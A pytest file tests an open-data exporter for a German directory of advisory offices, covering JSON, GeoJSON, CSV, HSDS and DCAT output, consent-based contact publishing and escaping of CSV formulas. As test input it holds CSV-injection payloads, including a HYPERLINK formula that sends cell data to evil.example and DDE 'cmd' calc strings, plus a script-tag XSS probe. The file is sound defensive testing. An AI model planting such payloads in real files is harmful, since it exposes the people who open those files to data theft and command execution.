"""Open data under /data/: JSON, GeoJSON, CSV, Open Referral HSDS and the DCAT-AP.de
catalog, written by `kim export` (in-process, without building a site) from the
real-shaped fixture and from hostile content; the data page on the built sample site."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import geojson
import jsonschema
import pytest
import rdflib
from bs4 import BeautifulSoup

from conftest import FIXTURES, SITE_LANGUAGES, page_path, sample_content_with
from generator.cli import main as kim_main
from generator.outputs.open_data import FILES, cell
from generator.reading.load import load

# HSDS's compiled service schema with its definitions (see tests/fixtures/hsds/README.md).
HSDS_SCHEMA = json.loads((FIXTURES / "hsds" / "service_with_definitions.json").read_text(encoding="utf-8"))
# Fields that HSDS 3.1 added: the services must be HSDS 3.0, so none of them.
HSDS_31_FIELDS = {"additional_urls", "capacities", "additional_websites", "label"}
UNPUBLISHED_REAL = ("Nicht Veröffentlicht", "geheim-lang")
UNPUBLISHED_HOSTILE = ("Zyxwv-Unpublished-Qrstu", "zyxwv-unpublished")
DATA_FILES = [*FILES, "catalog.jsonld"]


def export(content: Path, out: Path) -> Path:
    assert kim_main(["export", str(content), "--out", str(out)]) == 0
    return out


@pytest.fixture(scope="module")
def real(tmp_path_factory) -> Path:
    return export(FIXTURES / "real", tmp_path_factory.mktemp("open-data") / "real")


def read_csv(path: Path) -> list[dict]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, for spreadsheets"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def keys(value) -> set[str]:
    """Every key at any depth of a JSON value."""
    if isinstance(value, dict):
        return set(value) | set().union(*(keys(item) for item in value.values()))
    if isinstance(value, list):
        return set().union(*(keys(item) for item in value)) if value else set()
    return set()


def test_every_file_is_written(real):
    assert sorted(p.relative_to(real).as_posix() for p in real.rglob("*") if p.is_file()) == sorted(DATA_FILES)


def test_offices_json_is_documented_and_versioned(real):
    document = json.loads((real / "offices.json").read_text(encoding="utf-8"))
    directory = load(FIXTURES / "real")
    assert document["format"] == "kim-offices" and document["version"] == "1.0"
    assert document["generated"] and document["documentation"]
    assert document["licence"]["id"] == "dl-by-de/2.0" and document["licence"]["url"] == "https://www.govdata.de/dl-de/by-2-0"
    assert "Datenlizenz Deutschland – Namensnennung – Version 2.0" in document["licence"]["name"]
    assert [o["id"] for o in document["offices"]] == [o.slug for o in directory.sorted_offices()]
    assert {c["id"] for c in document["carriers"]} == set(directory.carriers)
    assert {m["id"] for m in document["municipalities"]} == set(directory.municipalities)
    assert len(document["contacts"]) == sum(c.open_data for o in directory.offices.values() for c in o.published_contacts) == 6
    # Unknown is not a fact: what the editor did not give is absent, never empty or false.
    by_id = {o["id"]: o for o in document["offices"]}
    for office in directory.offices.values():
        shown = by_id[office.slug]
        assert ("address" in shown) == (office.address is not None)
        assert ("languages" in shown) == bool(office.languages)
        assert ("opening_hours" in shown) == bool(office.opening_hours)
        assert ("appointment" in shown) == (office.appointment is not None)
        assert "interpreters" not in shown or shown["interpreters"] is True


def test_geojson_is_valid_with_a_feature_per_office_and_place(real):
    collection = geojson.loads((real / "offices.geojson").read_text(encoding="utf-8"))
    assert collection.is_valid, collection.errors()
    directory = load(FIXTURES / "real")
    features = collection["features"]
    assert len(features) == sum(1 + len(o.consultations) for o in directory.offices.values())
    for office in directory.offices.values():
        feature = next(f for f in features if f["id"] == office.slug)
        assert feature["properties"]["url"] == f"../offices/{office.slug}/"
        if office.location:
            assert feature["geometry"]["coordinates"] == [office.location.lon, office.location.lat]  # RFC 7946: lon, lat
        else:
            assert feature["geometry"] is None  # not published: no guessed point
    places = [f for f in features if f["properties"]["kind"] == "consultation"]
    assert places and all(f["properties"]["office"] in directory.offices for f in places)


def test_csv_files_open_in_python_with_one_row_per_office_and_contact(real):
    directory = load(FIXTURES / "real")
    offices = read_csv(real / "offices.csv")
    assert len(offices) == len(directory.offices)
    assert {row["id"] for row in offices} == set(directory.offices)
    lang = next(row for row in offices if row["id"] == "musterstadt-lang")
    assert lang["PLZ"] == "45127" and lang["Dolmetscher"] == "ja" and "Arabisch" in lang["Sprachen"]
    contacts = read_csv(real / "contacts.csv")
    assert len(contacts) == sum(c.open_data for o in directory.offices.values() for c in o.published_contacts) == 6
    assert {row["Beratungsstelle (id)"] for row in contacts} <= set(directory.offices)
    eins = next(row for row in contacts if row["Name"] == "Test Person Eins")
    assert eins["Beratungsstelle (id)"] == "musterstadt-lang" and eins["Telefon"] == "0201 123-5010" and eins["Funktion"] == "Case Manager/in"


def test_hsds_services_validate_against_the_schema(real):
    services = json.loads((real / "hsds" / "services.json").read_text(encoding="utf-8"))
    assert isinstance(services, list) and len(services) == len(load(FIXTURES / "real").offices)
    validator = jsonschema.Draft7Validator(HSDS_SCHEMA, format_checker=jsonschema.FormatChecker())
    for service in services:
        errors = [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(service)]
        assert not errors, (service["name"], errors)
        assert not keys(service) & HSDS_31_FIELDS, "HSDS 3.0 only"
    lang = next(s for s in services if s["name"].startswith("Kommunales Integrationsmanagement Musterstadt"))
    assert lang["organization"]["name"] and lang["languages"] and lang["contacts"] and lang["phones"]
    assert lang["service_at_locations"][0]["location"]["addresses"][0]["postal_code"] == "45127"
    assert any(s["byday"] == "MO,TU,TH" and s["opens_at"] == "08:30" for s in lang["service_at_locations"][0]["schedules"])
    assert lang["service_areas"]


def test_a_listed_person_is_in_the_open_data_only_with_their_consent_to_it(real):
    """Listed on the site (publish: true) is not agreed to open data, which anyone may
    copy and reuse: a person without `open_data: true` is in no open-data file, by
    name, phone or e-mail; the office's own ways to reach it are."""
    directory = load(FIXTURES / "real")
    listed_only = [c for o in directory.offices.values() for c in o.published_contacts if not c.open_data]
    assert {c.name for c in listed_only} >= {"Test Person Sieben", "Test Person Acht"}
    everything = "\n".join(p.read_text(encoding="utf-8-sig") for p in real.rglob("*") if p.is_file())
    for person in listed_only:
        assert person.name not in everything
        assert not person.email or person.email not in everything
        for phone in person.phones:
            assert phone.number.display not in everything and phone.number.e164 not in everything
    assert "Test Person Eins" in everything and "eins@example.org" in everything


def test_hsds_ids_are_stable_between_exports(real, tmp_path):
    again = export(FIXTURES / "real", tmp_path / "again")
    assert (again / "hsds" / "services.json").read_bytes() == (real / "hsds" / "services.json").read_bytes()
    ids = [s["id"] for s in json.loads((real / "hsds" / "services.json").read_text(encoding="utf-8"))]
    assert len(set(ids)) == len(ids)


def test_dcat_catalog_lists_one_distribution_per_file(real):
    graph = rdflib.Graph().parse(real / "catalog.jsonld", format="json-ld")
    DCAT, DCT = rdflib.Namespace("http://www.w3.org/ns/dcat#"), rdflib.Namespace("http://purl.org/dc/terms/")
    assert len(list(graph.subjects(rdflib.RDF.type, DCAT.Catalog))) == 1
    (dataset,) = graph.subjects(rdflib.RDF.type, DCAT.Dataset)
    distributions = list(graph.objects(dataset, DCAT.distribution))
    assert len(distributions) == len(FILES)
    downloads = sorted(str(graph.value(d, DCAT.downloadURL)).rsplit("/data/", 1)[-1].rsplit(str(real) + "/", 1)[-1] for d in distributions)
    assert downloads == sorted(FILES)
    for distribution in distributions:
        assert str(graph.value(distribution, DCT.license)) == "http://dcat-ap.de/def/licenses/dl-by-de/2.0"
        assert int(graph.value(distribution, DCAT.byteSize)) > 0


@pytest.mark.parametrize("content, markers", [(FIXTURES / "real", UNPUBLISHED_REAL), ("hostile", UNPUBLISHED_HOSTILE)])
def test_no_unpublished_contact_in_any_byte(content, markers, tmp_path):
    if content == "hostile":
        content = sample_content_with(tmp_path, FIXTURES / "hostile")
    out = export(content, tmp_path / "out")
    for path in out.rglob("*"):
        if path.is_file():
            data = path.read_bytes().lower()
            for marker in markers:
                assert marker.lower().encode() not in data, (path, marker)


HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"klick")',
    "district": "+1+cmd|' /C calc'!A0",
    "street": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact": "-2+3 <script>alert(1)</script>",
}


def test_hostile_text_is_neutralised_in_csv_and_plain_in_json(tmp_path):
    content = tmp_path / "content"
    shutil.copytree(FIXTURES / "real", content)
    office = content / "offices" / "zz-hostile.yml"
    office.write_text(
        f"name: {json.dumps(HOSTILE['name'])}\ncarrier: stadt-musterstadt\nmunicipality: lehrstadt\ndistrict: {json.dumps(HOSTILE['district'])}\n"
        f'address: {{street: {json.dumps(HOSTILE["street"])}, postcode: "53111", city: Lehrstadt}}\nphone: "0228 77-3300"\nreviewed: 2026-11-20\n'
        f"contacts:\n  - {{name: {json.dumps(HOSTILE['contact'])}, email: x@example.org, publish: true, open_data: true}}\n",
        encoding="utf-8",
    )
    out = export(content, tmp_path / "out")
    row = next(r for r in read_csv(out / "offices.csv") if r["id"] == "zz-hostile")
    assert row["Name"] == "'" + HOSTILE["name"]
    assert row["Stadtteil"] == "'" + HOSTILE["district"]
    assert row["Straße"] == "'" + HOSTILE["street"]
    person = next(r for r in read_csv(out / "contacts.csv") if r["Beratungsstelle (id)"] == "zz-hostile")
    assert person["Name"] == "'" + HOSTILE["contact"]
    document = json.loads((out / "offices.json").read_text(encoding="utf-8"))
    shown = next(o for o in document["offices"] if o["id"] == "zz-hostile")
    assert shown["name"] == {"de": HOSTILE["name"]} and shown["address"]["street"] == HOSTILE["street"]
    assert any(c["name"] == HOSTILE["contact"] for c in document["contacts"])  # plain text, as written
    for feature in json.loads((out / "offices.geojson").read_text(encoding="utf-8"))["features"]:
        if feature["id"] == "zz-hostile":
            assert feature["properties"]["name"] == HOSTILE["name"]


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("-x", "'-x"),
        ("@a", "'@a"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (51.5, "51.5"),
        # A phone number in international form is one, not a formula.
        ("+49 2325 6999194", "+49 2325 6999194"),
        ("+4923256999194", "+4923256999194"),
        ("+1+cmd|x", "'+1+cmd|x"),
        ("=HYPERLINK(\"https://evil.example\")", "'=HYPERLINK(\"https://evil.example\")"),
        # Judged by the first visible character, in its plain form.
        ("\uff1dcmd|' /C calc'!A0", "'\uff1dcmd|' /C calc'!A0"),
        ("\u200b=1+1", "'\u200b=1+1"),
        ("\u00a0 @SUM(A1)", "'\u00a0 @SUM(A1)"),
        ("\ufe62 1", "'\ufe62 1"),
    ],
)
def test_formula_guard(value, expected):
    assert cell(value) == expected


def test_data_page_in_every_language_links_the_files(sample_site):
    assert all((sample_site / "data" / path).is_file() for path in DATA_FILES)
    for language in SITE_LANGUAGES:
        path = page_path(sample_site, language, "data")
        page = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        rows = page.select("[data-data-file]")
        assert [row["data-data-file"] for row in rows] == list(FILES), language
        for row in rows:
            link = row.select_one("a")
            assert (path.parent / link["href"]).resolve() == (sample_site / "data" / row["data-data-file"]).resolve()
        catalog = page.find("a", string="catalog.jsonld")
        assert (path.parent / catalog["href"]).resolve() == (sample_site / "data" / "catalog.jsonld").resolve()
        assert page.select_one(".kim-attribution").get_text().strip().endswith("(https://www.govdata.de/dl-de/by-2-0)")
